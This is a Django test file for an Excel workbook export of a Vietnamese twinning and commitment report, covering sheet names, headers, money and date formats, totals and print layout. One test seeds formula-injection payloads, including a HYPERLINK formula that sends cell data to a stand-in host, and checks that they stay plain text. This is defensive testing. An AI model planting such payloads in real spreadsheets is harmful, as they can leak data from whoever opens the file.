"""The Excel workbook: a sheet per field and one for partnerships, real numbers and dates, Vietnamese formats."""

import datetime
import io

from django.test import TestCase
from openpyxl import load_workbook

from reports.figures import CityFigures, load_rows
from reports.models import Report
from reports.spreadsheet import DATE, MONEY, build_workbook
from tests.reports.programme import Programme


class WorkbookTests(TestCase):
    @classmethod
    def setUpTestData(cls):
        cls.programme = Programme.build()
        cls.figures = CityFigures.build(load_rows(period=cls.programme.q4))
        report = Report.objects.create(period=cls.programme.q4, kind=Report.Kind.CITY)
        cls.content = build_workbook(report, cls.figures)

    def setUp(self):
        # Loaded per test: TestCase deep-copies class data, which an openpyxl workbook does not survive.
        self.workbook = load_workbook(io.BytesIO(self.content))

    def test_a_summary_a_partnership_sheet_and_one_sheet_per_field(self):
        self.assertEqual(
            self.workbook.sheetnames,
            ["Tổng hợp", "Quan hệ kết nghĩa", "Nhà ở (nhà tình nghĩa, nhà đại", "Y tế"],  # whole words, ≤ 31
        )

    def test_headers_are_vietnamese_and_cells_hold_numbers_and_dates(self):
        sheet = self.workbook["Quan hệ kết nghĩa"]
        headers = [cell.value for cell in sheet[1]]
        self.assertIn("Đơn vị được hỗ trợ", headers)  # the name is not repeated in a column of its own
        self.assertIn("Giá trị đã thực hiện (đồng)", headers)
        rows = {(row[1].value, row[2].value): row for row in sheet.iter_rows(min_row=2)}
        main = rows[("Hòa Cường", "Trà Tân")]
        signed = main[headers.index("Ngày ký")]
        self.assertEqual(signed.value, datetime.datetime(2025, 8, 8))
        self.assertEqual(signed.number_format, DATE)
        achieved = main[headers.index("Giá trị đã thực hiện (đồng)")]
        self.assertEqual((achieved.value, achieved.number_format), (80_000_000, MONEY))
        self.assertEqual(MONEY, '#,##0" đ"')

    def test_field_sheets_list_their_commitments_with_quantities(self):
        sheet = self.workbook["Y tế"]
        headers = [cell.value for cell in sheet[3]]
        titles = [row[1].value for row in sheet.iter_rows(min_row=4)]
        self.assertIn("Khám bệnh, cấp thuốc miễn phí", titles)
        clinic = next(row for row in sheet.iter_rows(min_row=4) if row[1].value == "Khám bệnh, cấp thuốc miễn phí")
        self.assertEqual(clinic[headers.index("Chỉ tiêu số lượng")].value, 500)
        self.assertEqual(clinic[headers.index("Hạn hoàn thành")].value, datetime.datetime(2025, 11, 30))
        self.assertEqual(clinic[headers.index("Tình trạng")].value, "Quá hạn")

    def test_totals_per_field_equal_the_figures(self):
        sheet = self.workbook["Tổng hợp"]
        values = {
            row[0].value: row[1].value
            for row in sheet.iter_rows(min_row=6)
            if row[0].value != "Tổng cộng" and row[0].value
        }
        self.assertEqual(values, {field.name: field.commitments for field in self.figures.fields})


class WorkbookSafetyAndPrintTests(TestCase):
    """Issue 17: text stays text (no formula injection), whole-word sheet names, totals, print setup."""

    @classmethod
    def setUpTestData(cls):
        cls.programme = Programme.build()
        world = cls.programme.world
        from tests import factories

        cls.payloads = ['=HYPERLINK("http://x.example/"&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
        for payload in cls.payloads:
            factories.commitment(partnership=world.partnership, field=cls.programme.health, title=payload)
        cls.figures = CityFigures.build(load_rows(period=cls.programme.q4))
        report = Report.objects.create(period=cls.programme.q4, kind=Report.Kind.CITY)
        cls.content = build_workbook(report, cls.figures)

    def setUp(self):
        self.workbook = load_workbook(io.BytesIO(self.content))

    def test_text_starting_like_a_formula_is_stored_as_text(self):
        sheet = self.workbook["Y tế"]
        titles = {row[1].value: row[1] for row in sheet.iter_rows(min_row=4) if row[1].value}
        for payload in self.payloads:
            cell = titles[payload]
            self.assertEqual(cell.data_type, "s", payload)
        import zipfile

        with zipfile.ZipFile(io.BytesIO(self.content)) as archive:
            sheets = "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets/" in name)
        import re

        self.assertFalse(re.search(r"<f>[^<]*(HYPERLINK|1\+1|SUM\(A1\))", sheets))  # text, never a formula

    def test_sheet_names_are_whole_words_and_unique(self):
        from reports.spreadsheet import _sheet_title

        used: set[str] = set()
        name = _sheet_title("Kỹ năng giám sát của Hội đồng nhân dân", used)
        self.assertEqual(name, "Kỹ năng giám sát của Hội đồng")
        self.assertEqual(_sheet_title("Kỹ năng giám sát của Hội đồng nhân dân", used), "Kỹ năng giám sát của Hội (2)")
        for title in self.workbook.sheetnames:
            self.assertLessEqual(len(title), 31)

    def test_total_rows_and_print_setup(self):
        summary = self.workbook["Tổng hợp"]
        labels = [row[0].value for row in summary.iter_rows(min_row=6)]
        self.assertIn("Tổng cộng", labels)
        partnerships = self.workbook["Quan hệ kết nghĩa"]
        self.assertIn("Tổng cộng", [row[1].value for row in partnerships.iter_rows(min_row=2)])
        for sheet in self.workbook.worksheets:
            self.assertEqual(sheet.page_setup.orientation, "landscape")
            self.assertEqual(str(sheet.page_setup.paperSize), str(sheet.PAPERSIZE_A4))
            self.assertEqual(str(sheet.page_setup.fitToWidth), "1")
            self.assertTrue(sheet.print_title_rows)

    def test_a_partnership_without_commitments_is_not_rated(self):
        sheet = self.workbook["Quan hệ kết nghĩa"]
        headers = [cell.value for cell in sheet[1]]
        for row in sheet.iter_rows(min_row=2):
            if row[1].value == "Tổng cộng":
                continue
            if row[headers.index("Số cam kết")].value == 0:
                self.assertIn(row[headers.index("Đánh giá")].value, (None, ""))
